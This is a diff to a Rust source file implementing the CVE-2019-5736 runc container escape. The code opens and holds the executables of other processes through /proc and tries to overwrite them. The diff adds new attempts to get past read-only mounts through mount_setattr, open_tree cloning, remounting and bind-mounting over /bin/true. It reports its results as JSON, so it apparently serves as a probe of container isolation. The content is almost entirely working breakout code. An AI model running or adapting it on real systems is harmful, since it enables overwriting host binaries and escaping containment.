@@ -11,13 +11,15 @@ use std::time::{Duration, Instant};
 const TIME: Duration = Duration::from_secs(4);
 
 /// CVE-2019-5736: takes hold of the program of every process that turns up, and
-/// tries to write to it for as long as it can be held. Says what came of it.
+/// tries to write to it for as long as it can be held; where it is on a mount that
+/// forbids that, to change or to clone the mount. Says what came of it.
 pub fn overwrite() {
     println!("ready");
     let own = fs::read_link("/proc/self/exe").expect("our own program");
     let mut held: BTreeMap<u32, File> = BTreeMap::new();
     let (mut seen, mut tried) = (0, 0);
     let mut written: Vec<String> = Vec::new();
+    let mut unwrapped: Vec<&str> = Vec::new();
     let start = Instant::now();
     while start.elapsed() < TIME {
         for pid in processes() {
@@ -26,6 +28,9 @@ pub fn overwrite() {
             if foreign && !held.contains_key(&pid) {
                 seen += 1;
                 if let Ok(file) = File::open(&exe) {
+                    if !is_mounted_here(&file) {
+                        unwrapped.extend(unwrap(&file));
+                    }
                     held.insert(pid, file);
                 }
             }
@@ -44,7 +49,52 @@ pub fn overwrite() {
         }
     }
     let held = held.len();
-    println!("{}", json!({"seen": seen, "held": held, "tried": tried, "written": written}));
+    println!(
+        "{}",
+        json!({"seen": seen, "held": held, "tried": tried, "written": written,
+               "unwrapped": unwrapped})
+    );
+}
+
+/// Whether the file's mount is one of the container's own.
+fn is_mounted_here(file: &File) -> bool {
+    let info = fs::read_to_string(format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
+    let mounts = fs::read_to_string("/proc/self/mountinfo");
+    let (info, mounts) = (info.unwrap_or_default(), mounts.unwrap_or_default());
+    let id = info.lines().find_map(|line| line.strip_prefix("mnt_id:")).unwrap_or("").trim();
+    mounts.lines().any(|line| line.split(' ').next() == Some(id))
+}
+
+/// What of the file's mount can be changed, and in which ways it can be had again.
+fn unwrap(file: &File) -> Vec<&'static str> {
+    let fd = file.as_raw_fd();
+    let path = format!("/proc/self/fd/{fd}\0");
+    // attr_set, attr_clr, propagation, userns_fd of mount_setattr(2).
+    let writable = [0, libc::MOUNT_ATTR_RDONLY, 0, 0];
+    let set = |fd: i32| {
+        let size = size_of_val(&writable);
+        // SAFETY: the path and the structure live across the call.
+        unsafe {
+            let (empty, at) = (c"".as_ptr(), writable.as_ptr());
+            libc::syscall(libc::SYS_mount_setattr, fd, empty, libc::AT_EMPTY_PATH, at, size) == 0
+        }
+    };
+    let clone = libc::OPEN_TREE_CLONE as i32 | libc::AT_EMPTY_PATH;
+    // SAFETY: as above; a descriptor that is got stays open for the process's life.
+    let clone = unsafe { libc::syscall(libc::SYS_open_tree, fd, c"".as_ptr(), clone) } as i32;
+    let mount = |source: *const libc::c_char, target: *const libc::c_char, flags| {
+        // SAFETY: as above.
+        unsafe { libc::mount(source, target, std::ptr::null(), flags, std::ptr::null()) == 0 }
+    };
+    let own = path.as_ptr().cast();
+    let remount = libc::MS_REMOUNT | libc::MS_BIND;
+    let ways = [
+        ("mount_setattr", set(fd)),
+        ("open_tree", clone >= 0),
+        ("remount", mount(std::ptr::null(), own, remount)),
+        ("bind", mount(own, c"/bin/true".as_ptr(), libc::MS_BIND)),
+    ];
+    ways.into_iter().filter(|(_, works)| *works).map(|(way, _)| way).collect()
 }
 
 fn processes() -> Vec<u32> {
